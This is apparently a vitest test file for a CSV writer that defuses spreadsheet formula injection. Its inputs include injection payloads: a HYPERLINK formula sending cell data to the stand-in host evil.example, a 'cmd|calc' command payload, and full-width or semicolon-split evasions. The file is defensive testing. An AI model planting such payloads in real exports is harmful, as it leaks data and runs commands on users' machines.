import { describe, expect, it } from 'vitest';
import { csvField, csvLine, parseCsv } from './csv-parse';

describe('csvField: the one CSV cell writer', () => {
  it('neutralises cells a spreadsheet would run as formulas', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
    );
    expect(csvField('+1+cmd|calc')).toBe(`'+1+cmd|calc`);
    expect(csvField('-2+3')).toBe(`'-2+3`);
    expect(csvField('@SUM(A1:A2)')).toBe(`'@SUM(A1:A2)`);
    expect(csvField('\t=1')).toBe(`'\t=1`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    // After leading spaces, in full-width forms, and split at a locale's semicolon separator.
    expect(csvField(' =1+1')).toBe(`' =1+1`);
    expect(csvField('\u3000=1+1')).toBe(`'\u3000=1+1`);
    for (const c of ['＝1+1', '＋1+1', '－1+1', '＠SUM(A1)']) expect(csvField(c)).toBe(`'${c}`);
    expect(csvField('a;=1+1;b')).toBe('"a;=1+1;b"');
  });

  it('keeps plain numbers, negative ones included, and ordinary text byte for byte', () => {
    for (const n of ['-5', '-12.50', '+1.5', '2e-3', '0', '12345678', '-.5']) expect(csvField(n)).toBe(n);
    expect(csvField("D'Angelo Russell")).toBe("D'Angelo Russell");
    expect(csvField('Jr., Sr.')).toBe('"Jr., Sr."');
    expect(csvField('MVP - 2X Points')).toBe('MVP - 2X Points');
    expect(csvField('')).toBe('');
  });

  it('reads back what it wrote, with the apostrophe that keeps a formula text', () => {
    const line = csvLine(['1', '=1+1', 'a "b"', '-5']);
    expect(parseCsv(line)[0]?.cells).toEqual(['1', "'=1+1", 'a "b"', '-5']);
  });
});
